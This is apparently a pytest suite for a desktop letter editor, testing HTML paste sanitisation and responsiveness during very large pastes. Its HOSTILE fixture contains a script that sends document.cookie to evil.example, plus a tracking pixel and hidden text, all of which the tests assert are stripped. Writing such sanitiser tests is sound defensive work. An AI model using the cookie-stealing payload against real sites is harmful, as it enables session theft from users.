"""Pasting into the letter: hostile content is cleaned, and a 10 MB paste does not freeze the window."""

from __future__ import annotations

import time
from dataclasses import dataclass

import pytest
from PySide6.QtCore import QMimeData, QTimer
from PySide6.QtGui import QGuiApplication, QImage
from PySide6.QtWidgets import QApplication

from composer.gui.editor import LetterEditor
from composer.gui.paste import MAX_PASTE_CHARS, CleanPasteTextEdit
from tests.helpers.heartbeat import Heartbeat

# The longest the event loop may go without running a timer during a large paste.
# A step inserts for about 25 ms; the bound leaves room for a slow machine.
RESPONSIVE_BOUND_S = 0.35
# The editor's listeners (word count, spelling) answer the paste's one change notice on
# the whole 10 MB text; measured apart, with a looser bound, because that code is theirs.
NOTICE_BOUND_S = 2.0


@pytest.fixture
def editor(qtbot) -> LetterEditor:
    widget = LetterEditor()
    qtbot.addWidget(widget)
    widget.resize(700, 900)
    widget.show()
    qtbot.waitExposed(widget)
    return widget


def mime(text: str = "", html: str = "") -> QMimeData:
    data = QMimeData()
    if text:
        data.setText(text)
    if html:
        data.setHtml(html)
    return data


HOSTILE = (
    "<p>I write as a <b>constituent</b>.<script>fetch('https://evil.example/'+document.cookie)"
    "</script><img src='https://pixel.example/open.gif?u=42' width=1 height=1>"
    "<span style='display:none'>HIDDEN-ONE</span><span style='color:#fff'>HIDDEN-TWO</span>"
    "<span style='font-size:1px'>HIDDEN-THREE</span>"
    " Please read <a href='https://example.org/report?utm_source=mail&fbclid=x&page=2'>"
    "the report</a>.</p>"
)


def test_pasted_html_is_cleaned_before_it_reaches_the_letter(editor: LetterEditor, qtbot) -> None:
    assert isinstance(editor.text, CleanPasteTextEdit)
    with qtbot.waitSignal(editor.text.paste_finished) as finished:
        editor.text.insertFromMimeData(mime("fallback", HOSTILE))
    body = editor.html()
    for gone in ("HIDDEN", "evil.example", "pixel.example", "<img", "utm_source", "fbclid"):
        assert gone not in body
    assert "https://example.org/report?page=2" in body
    plain = editor.text.toPlainText()
    assert plain == "I write as a constituent. Please read the report."
    assert "1 image" in finished.args[0] and "3 pieces of hidden text" in finished.args[0]


def test_paste_through_the_clipboard(editor: LetterEditor, qtbot) -> None:
    clipboard = QGuiApplication.clipboard()
    clipboard.setMimeData(mime("x", HOSTILE))
    try:
        with qtbot.waitSignal(editor.text.paste_finished):
            editor.text.paste()
    finally:
        # The clipboard owns the data now; left there, it outlives the application at exit.
        clipboard.clear()
    assert "HIDDEN" not in editor.html()
    assert "constituent" in editor.text.toPlainText()


def test_images_and_files_cannot_be_pasted(editor: LetterEditor) -> None:
    data = QMimeData()
    data.setImageData(QImage(4, 4, QImage.Format.Format_RGB32))
    assert not editor.text.canInsertFromMimeData(data)
    assert editor.text.canInsertFromMimeData(mime("words"))


def test_plain_text_loses_invisible_characters(editor: LetterEditor, qtbot) -> None:
    with qtbot.waitSignal(editor.text.paste_finished) as finished:
        editor.text.insertFromMimeData(mime("Dear\u200b Sir,\U000e0041 thank\u202e you."))
    assert editor.text.toPlainText() == "Dear Sir, thank you."
    assert "3 invisible characters" in finished.args[0]


@dataclass
class PasteTiming:
    total: float  # from the paste to its end
    longest_gap: float  # the longest the event loop waited while the paste went in
    notice: float  # how long the editor's listeners took over the one change notice


def paste_and_watch(qtbot, editor: LetterEditor, data: QMimeData) -> PasteTiming:
    """Paste from the event loop and measure how long the loop is ever kept waiting.

    The paste ends with one change notice, which the editor's own listeners
    (word count, spelling) answer on the whole text; that time is measured
    apart, because it is theirs, not the paste's.
    """
    beat = Heartbeat()
    changes: list[int] = []
    editor.changed.connect(lambda: changes.append(1))
    marks: dict[str, float] = {}
    editor.text.paste_progress.connect(
        lambda percent: marks.setdefault("notice", time.monotonic()) if percent == 100 else None
    )
    beat.start()
    started = time.monotonic()
    with qtbot.waitSignal(editor.text.paste_finished, timeout=180_000):
        # Start from the event loop, so the heartbeat also covers the synchronous part.
        QTimer.singleShot(0, lambda: editor.text.insertFromMimeData(data))
    ended = time.monotonic()
    beat.stop()
    # The rest of the program heard of the change once, not once per piece.
    assert len(changes) == 1
    notice = marks["notice"]
    return PasteTiming(ended - started, beat.longest_gap(notice), ended - notice)


def test_ten_megabytes_of_text_keep_the_window_responsive(
    editor: LetterEditor, qtbot, record_property
) -> None:
    line = "The quick brown fox jumps over the lazy dog, and the letter goes on and on.\n"
    text = line * (10_000_000 // len(line))
    assert len(text) >= 9_900_000
    timing = paste_and_watch(qtbot, editor, mime(text))
    record_property("paste_10mb_seconds", round(timing.total, 2))
    record_property("paste_10mb_longest_gap_ms", round(timing.longest_gap * 1000))
    record_property("paste_10mb_change_notice_ms", round(timing.notice * 1000))
    print(
        f"\n10 MB plain paste: {timing.total:.1f} s in all, longest event-loop wait "
        f"{timing.longest_gap * 1000:.0f} ms, editor's reaction to the change "
        f"{timing.notice * 1000:.0f} ms"
    )
    assert timing.longest_gap < RESPONSIVE_BOUND_S
    assert timing.notice < NOTICE_BOUND_S
    assert editor.text.toPlainText() == text
    assert not editor.text.isReadOnly()
    # One step for Undo takes the whole paste back out.
    editor.text.undo()
    assert editor.text.toPlainText() == ""


def test_one_enormous_line_is_split_into_paragraphs(editor: LetterEditor, qtbot) -> None:
    text = "word " * 400_000  # 2 MB without a line break
    timing = paste_and_watch(qtbot, editor, mime(text))
    assert timing.longest_gap < RESPONSIVE_BOUND_S
    pasted = editor.text.toPlainText()
    assert pasted.split() == text.split()
    assert editor.text.document().blockCount() > 100


def test_a_long_html_document_is_cleaned_away_from_the_window(editor: LetterEditor, qtbot) -> None:
    paragraph = (
        "<p style='color:#222'>Paragraph {n} with <b>bold</b> words"
        "<span style='display:none'>HIDDEN{n}</span><img src='https://t.example/{n}.gif'></p>"
    )
    source = "".join(paragraph.format(n=n) for n in range(12_000))
    assert len(source) > 1_000_000
    timing = paste_and_watch(qtbot, editor, mime("x", source))
    print(
        f"\n1.3 MB HTML paste: {timing.total:.1f} s, longest wait {timing.longest_gap * 1000:.0f} ms"
    )
    assert timing.longest_gap < RESPONSIVE_BOUND_S
    plain = editor.text.toPlainText()
    assert "HIDDEN" not in plain and "t.example" not in editor.html()
    assert plain.count("Paragraph") == 12_000


def test_an_absurdly_large_paste_is_refused_with_a_reason(editor: LetterEditor, qtbot) -> None:
    with qtbot.waitSignal(editor.text.paste_finished) as finished:
        editor.text.insertFromMimeData(mime("x" * (MAX_PASTE_CHARS + 1)))
    assert "Nothing was pasted" in finished.args[0]
    assert editor.text.toPlainText() == ""


def test_a_cleaning_that_fails_leaves_the_editor_usable(
    editor: LetterEditor, qtbot, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The background cleaning fails (here, made to): the user is told and can type again."""

    def broken(_source: str) -> None:
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr("composer.core.paste.clean_html", broken)
    editor.text.setPlainText("Dear Senator,")
    with qtbot.waitSignal(editor.text.paste_finished, timeout=10_000) as finished:
        editor.text.insertFromMimeData(mime("x", "<p>big</p>" * 60_000))
    assert finished.args[0].startswith("Nothing was pasted.")
    assert "recursion" in finished.args[0]
    assert not editor.text.isReadOnly() and not editor.text.is_pasting()
    assert editor.text.toPlainText() == "Dear Senator,"


def test_typing_waits_while_a_large_paste_goes_in(editor: LetterEditor, qtbot) -> None:
    text = "line of text\n" * 200_000
    QTimer.singleShot(0, lambda: editor.text.insertFromMimeData(mime(text)))
    qtbot.waitUntil(editor.text.is_pasting)
    assert editor.text.isReadOnly()
    with qtbot.waitSignal(editor.text.paste_finished, timeout=60_000):
        pass
    assert not editor.text.isReadOnly()
    assert QApplication.instance() is not None
